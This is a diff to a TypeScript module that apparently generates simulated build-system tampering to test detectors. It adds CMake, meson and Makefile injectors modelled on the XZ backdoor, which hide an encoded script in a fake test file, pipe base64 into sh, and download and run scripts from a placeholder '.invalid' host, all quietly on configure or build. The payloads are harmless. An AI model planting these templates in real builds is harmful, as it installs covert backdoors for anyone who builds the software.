@@ -17,9 +17,20 @@ export const TAMPER_KINDS = ['m4-payload', 'c-line', 'configure-script', 'makefi
 export const PYTHON_TAMPER_KINDS = ['py-line', 'setup-exec'] as const
 /** what an npm package can take: its manifest, and the code it ships */
 export const NPM_TAMPER_KINDS = ['npm-install-script', 'npm-code-exec', 'npm-code-exfil', 'npm-dependency'] as const
+/** what a CMake, meson or plain-make release can take: its own build file, and its C */
+export const CMAKE_TAMPER_KINDS = ['cmake-payload', 'c-line'] as const
+export const MESON_TAMPER_KINDS = ['meson-payload', 'c-line'] as const
+export const PLAIN_TAMPER_KINDS = ['plain-makefile', 'c-line'] as const
 /** injections outside the rotation, asked for by name (`--tamper-kind`): variants the detectors were not written against */
 export const EXTRA_TAMPER_KINDS = ['makefile-variable', 'makefile-command', 'makefile-substitution', 'makefile-value-replaced', 'doc-in-recipe', 'recipe-prefixed', 'recipe-word', 'rule-hooked', 'install-line', 'check-line', 'build-line', 'own-rule-line', 'recipeless-line', 'source-line', 'test-environment', 'template-variable', 'config-header', 'source-rewrite', 'outside-write', 'configure-stealth', 'sabotage'] as const
-export type TamperKind = (typeof TAMPER_KINDS)[number] | (typeof PYTHON_TAMPER_KINDS)[number] | (typeof NPM_TAMPER_KINDS)[number] | (typeof EXTRA_TAMPER_KINDS)[number]
+export type TamperKind =
+  | (typeof TAMPER_KINDS)[number]
+  | (typeof PYTHON_TAMPER_KINDS)[number]
+  | (typeof NPM_TAMPER_KINDS)[number]
+  | (typeof CMAKE_TAMPER_KINDS)[number]
+  | (typeof MESON_TAMPER_KINDS)[number]
+  | (typeof PLAIN_TAMPER_KINDS)[number]
+  | (typeof EXTRA_TAMPER_KINDS)[number]
 
 export interface Tampering {
   readonly kind: TamperKind
@@ -137,8 +148,11 @@ function flipOneLine(root: string, sources: readonly string[], d: Draw, kind: 'c
   throw new Error(`no line to change for ${kind}`)
 }
 
+/** a C file of the program itself: not a test, an example or documentation */
+const isProgramSource = (f: string): boolean => /\.c$/.test(f) && !/(^|\/)(tests?|examples?|contrib|doc)\//.test(f)
+
 function cLine(root: string, files: readonly string[], d: Draw): Tampering {
-  const sources = files.filter((f) => /\.c$/.test(f) && !/(^|\/)(tests?|examples?|contrib|doc)\//.test(f))
+  const sources = files.filter(isProgramSource)
   return flipOneLine(root, sources, d, 'c-line', /^\s+(if|while|return)\b/, FLIPS)
 }
 
@@ -810,6 +824,152 @@ function sabotage(root: string, files: readonly string[], d: Draw): Tampering {
   return { kind: 'sabotage', path: 'configure', touched: ['configure'], description: `configure destroys what is not its own as it runs: \`${line}\`` }
 }
 
+/** tr mappings that need no escape in a CMake, meson or make string */
+const PLAIN_SWAPS = [
+  ['a-zA-Z', 'n-za-mN-ZA-M'],
+  ['A-Za-z', 'N-ZA-Mn-za-m'],
+  ['0-9a-z', 'a-z0-9'],
+]
+
+/** A test-looking file holding a harmless script, compressed and byte-swapped, written into the tree. */
+function hiddenTestFile(root: string, d: Draw): string {
+  const testFile = `${d.pick(['tests', 'test', 'testdata'])}/${d.pick(['files', 'data', 'fuzz'])}/${d.pick(['bad', 'good', 'corrupt'])}-${d.int(9) + 1}-${d.pick(WORDS)}.${d.pick(['xz', 'lz', 'bin', 'dat'])}`
+  mkdirSync(join(root, testFile, '..'), { recursive: true })
+  writeFileSync(join(root, testFile), hiddenScript(d))
+  return testFile
+}
+
+/** A harmless command, base64-encoded: what an inline decoder hands to a shell. */
+const encodedCommand = (d: Draw): string => Buffer.from(`mkdir -p /nonexistent/stagelight-${d.int(1e6)} && echo ${d.pick(WORDS)} > /nonexistent/stagelight/x`).toString('base64')
+
+/**
+ * Where a call that spans lines closes: the index of the line holding the parenthesis that closes
+ * the first `opening` call, counting parentheses outside quotes. `opening` matches at the start of
+ * a line, outside any block: statements after it run whenever the build is configured.
+ */
+function closingLine(lines: readonly string[], opening: RegExp): number {
+  const start = lines.findIndex((l) => opening.test(l))
+  if (start < 0) return -1
+  let depth = 0
+  let quote: string | undefined
+  for (let i = start; i < lines.length; i++) {
+    const line = lines[i] ?? ''
+    for (let k = 0; k < line.length; k++) {
+      const c = line[k]
+      if (quote) {
+        if (c === '\\') k++
+        else if (c === quote) quote = undefined
+      } else if (c === '"' || c === "'") quote = c
+      else if (c === '#') break
+      else if (c === '(') depth++
+      else if (c === ')' && --depth === 0) return i
+    }
+  }
+  return -1
+}
+
+/** `added` put after the first `opening` call of `target` closes (or at the end), the release's lines otherwise as they were. */
+function insertAfterCall(root: string, target: string, opening: RegExp, added: readonly string[]): number {
+  const lines = readFileSync(join(root, target), 'utf8').split('\n')
+  const closing = closingLine(lines, opening)
+  const at = closing < 0 ? lines.length : closing + 1
+  lines.splice(at, 0, '', ...added)
+  writeFileSync(join(root, target), lines.join('\n'))
+  return at + 2
+}
+
+/**
+ * The XZ pattern in a CMake build: when the project is configured, a "test file" is decoded into a
+ * shell, a download is run, or an interpreter runs what it decodes; gated on the platform, in the
+ * top CMakeLists.txt or in a module of its own that CMakeLists.txt includes.
+ */
+function cmakePayload(root: string, _files: readonly string[], d: Draw): Tampering {
+  const w = d.pick(WORDS)
+  const [from, to] = d.pick(PLAIN_SWAPS) as [string, string]
+  const decoder = d.pick(DECODERS)
+  const body = d.pick([
+    (): string[] => {
+      const testFile = hiddenTestFile(root, d)
+      return [`  execute_process(COMMAND sh -c "tr '${from}' '${to}' < \\"\${CMAKE_CURRENT_SOURCE_DIR}/${testFile}\\" | ${decoder} 2>/dev/null | sh" OUTPUT_QUIET ERROR_QUIET)`]
+    },
+    (): string[] => {
+      const testFile = hiddenTestFile(root, d)
+      return [`  set(${w.toUpperCase()}_DATA "\${CMAKE_CURRENT_SOURCE_DIR}/${testFile}")`, `  add_custom_target(${w}_${d.int(100)} ALL COMMAND sh -c "${decoder} < \${${w.toUpperCase()}_DATA} | sh" VERBATIM)`]
+    },
+    (): string[] => [
+      `  file(DOWNLOAD "http://${w}.invalid/${d.int(1e4)}/setup.sh" "\${CMAKE_BINARY_DIR}/${w}-setup.sh" QUIET)`,
+      `  execute_process(COMMAND sh "\${CMAKE_BINARY_DIR}/${w}-setup.sh" OUTPUT_QUIET ERROR_QUIET)`,
+    ],
+    (): string[] => [`  execute_process(COMMAND ${d.pick(['python3', 'python'])} -c "import base64,os;os.system(base64.b64decode('${encodedCommand(d)}').decode())" OUTPUT_QUIET ERROR_QUIET)`],
+    (): string[] => [`  execute_process(COMMAND sh -c "echo ${encodedCommand(d)} | base64 -d | sh" OUTPUT_QUIET ERROR_QUIET)`],
+  ])()
+  const gate = d.pick(['if(CMAKE_SYSTEM_NAME STREQUAL "Linux")', 'if(UNIX AND NOT APPLE)', 'if(CMAKE_SYSTEM_PROCESSOR MATCHES "x86_64|AMD64")', 'if(NOT DEFINED ENV{CI})'])
+  const payload = [gate, ...body, 'endif()']
+  if (d.int(3) === 0) {
+    const module = `cmake/${w[0]?.toUpperCase()}${w.slice(1)}${d.pick(['Check', 'Detect', 'Support'])}.cmake`
+    mkdirSync(join(root, 'cmake'), { recursive: true })
+    writeFileSync(join(root, module), [`# ${module.split('/').pop()}: platform checks`, ...payload, ''].join('\n'))
+    insertAfterCall(root, 'CMakeLists.txt', /^project\s*\(/i, [`include(\${CMAKE_CURRENT_SOURCE_DIR}/${module})`])
+    return { kind: 'cmake-payload', path: module, touched: [module, 'CMakeLists.txt'], description: `${module}, included by CMakeLists.txt: ${body.join(' ').trim().slice(0, 90)}` }
+  }
+  const line = insertAfterCall(root, 'CMakeLists.txt', /^project\s*\(/i, payload)
+  return { kind: 'cmake-payload', path: 'CMakeLists.txt', touched: ['CMakeLists.txt'], description: `line ${line} of CMakeLists.txt: ${body.join(' ').trim().slice(0, 100)}` }
+}
+
+/**
+ * The XZ pattern in a meson build: when the project is configured or built, a "test file" is decoded
+ * into a shell, a download is run, or an interpreter runs what it decodes; gated on the platform,
+ * after the top meson.build's `project()`.
+ */
+function mesonPayload(root: string, _files: readonly string[], d: Draw): Tampering {
+  const w = d.pick(WORDS)
+  const [from, to] = d.pick(PLAIN_SWAPS) as [string, string]
+  const decoder = d.pick(DECODERS)
+  const body = d.pick([
+    (): string[] => {
+      const testFile = hiddenTestFile(root, d)
+      return [`  run_command('sh', '-c', 'tr "${from}" "${to}" < "@0@" | ${decoder} 2>/dev/null | sh'.format(meson.current_source_dir() / '${testFile}'), check: false)`]
+    },
+    (): string[] => {
+      const testFile = hiddenTestFile(root, d)
+      return [`  ${w}_data = files('${testFile}')`, `  custom_target('${w}-${d.int(100)}', output: '${w}.stamp', input: ${w}_data, command: ['sh', '-c', '${decoder} < @INPUT@ | sh; touch @OUTPUT@'], build_by_default: true)`]
+    },
+    (): string[] => [`  run_command('sh', '-c', 'curl -fsSL http://${w}.invalid/${d.int(1e4)} -o /tmp/.${w}.sh && sh /tmp/.${w}.sh', check: false)`],
+    (): string[] => [`  run_command(find_program('python3'), '-c', 'import base64,os;os.system(base64.b64decode("${encodedCommand(d)}").decode())', check: false)`],
+    (): string[] => [`  ${w}_cmd = ['sh', '-c', 'echo ${encodedCommand(d)} | base64 -d | sh']`, `  run_command(${w}_cmd, check: false)`],
+  ])()
+  const gate = d.pick(["if host_machine.system() == 'linux'", "if host_machine.cpu_family() == 'x86_64'", "if build_machine.system() != 'windows'"])
+  const line = insertAfterCall(root, 'meson.build', /^project\s*\(/, [gate, ...body, 'endif'])
+  return { kind: 'meson-payload', path: 'meson.build', touched: ['meson.build'], description: `line ${line} of meson.build: ${body.join(' ').trim().slice(0, 100)}` }
+}
+
+/**
+ * The XZ pattern in a hand-written Makefile: the recipe of the first rule, which `make` builds by
+ * default, decodes a "test file" or an inline string into a shell, or runs a download.
+ */
+function plainMakefile(root: string, files: readonly string[], d: Draw): Tampering {
+  const target = ['GNUmakefile', 'Makefile', 'makefile'].find((f) => files.includes(f))
+  if (target === undefined) throw new Error('no Makefile at the top of the release')
+  const lines = readFileSync(join(root, target), 'utf8').split('\n')
+  // the default goal: the first rule whose target is neither special (.PHONY) nor a pattern
+  const first = lines.findIndex((l) => !l.startsWith('\t') && /^[A-Za-z0-9_$(){}./-][^=:#]*:(?!=)/.test(l) && !/^\./.test(l) && !l.includes('%'))
+  if (first < 0) throw new Error(`no rule in ${target}`)
+  const [from, to] = d.pick(PLAIN_SWAPS) as [string, string]
+  const w = d.pick(WORDS)
+  const recipe = d.pick([
+    (): string => `\t@tr '${from}' '${to}' < ${hiddenTestFile(root, d)} | ${d.pick(DECODERS)} 2>/dev/null | sh || true`,
+    (): string => `\t@echo ${encodedCommand(d)} | base64 -d | sh`,
+    (): string => `\t@curl -fsS http://${w}.invalid/${d.int(1e4)} -o .${w}.sh 2>/dev/null && sh .${w}.sh || true`,
+    (): string => `\t@python3 -c "import base64,os;os.system(base64.b64decode('${encodedCommand(d)}').decode())" || true`,
+  ])()
+  let at = first + 1
+  while ((lines[at - 1] ?? '').endsWith('\\')) at++
+  lines.splice(at, 0, recipe)
+  writeFileSync(join(root, target), lines.join('\n'))
+  const rule = (lines[first] ?? '').split(':')[0]?.trim() ?? ''
+  return { kind: 'plain-makefile', path: target, touched: [target], description: `line ${at + 1} of ${target}, in ${rule}: ${recipe.trim().slice(0, 100)}` }
+}
+
 const INJECT: Record<TamperKind, (root: string, files: readonly string[], d: Draw) => Tampering> = {
   'npm-install-script': npmInstallScript,
   'npm-code-exec': npmCodeExec,
@@ -841,6 +1001,9 @@ const INJECT: Record<TamperKind, (root: string, files: readonly string[], d: Dra
   'configure-stealth': configureStealth,
   sabotage,
   'doc-as-code': docAsCode,
+  'cmake-payload': cmakePayload,
+  'meson-payload': mesonPayload,
+  'plain-makefile': plainMakefile,
   'py-line': pyLine,
   'setup-exec': setupExec,
 }
@@ -858,6 +1021,21 @@ export function applicablePythonKinds(files: readonly string[]): TamperKind[] {
 export function applicableNpmKinds(files: readonly string[]): TamperKind[] {
   if (!files.includes('package.json')) return []
   return files.some(isPackageCode) ? [...NPM_TAMPER_KINDS] : ['npm-install-script', 'npm-dependency']
+}
+
+/** Which injections a CMake release can take: a payload needs the top CMakeLists.txt and its project(). */
+export function applicableCmakeKinds(files: readonly string[]): TamperKind[] {
+  return [...(files.includes('CMakeLists.txt') ? (['cmake-payload'] as const) : []), ...(files.some(isProgramSource) ? (['c-line'] as const) : [])]
+}
+
+/** Which injections a meson release can take. */
+export function applicableMesonKinds(files: readonly string[]): TamperKind[] {
+  return [...(files.includes('meson.build') ? (['meson-payload'] as const) : []), ...(files.some(isProgramSource) ? (['c-line'] as const) : [])]
+}
+
+/** Which injections a release built by a hand-written Makefile can take. */
+export function applicablePlainKinds(files: readonly string[]): TamperKind[] {
+  return [...(['GNUmakefile', 'Makefile', 'makefile'].some((f) => files.includes(f)) ? (['plain-makefile'] as const) : []), ...(files.some(isProgramSource) ? (['c-line'] as const) : [])]
 }
 
 /** Which injections a release can take (configure and Makefile.in exist only in autotools releases). */
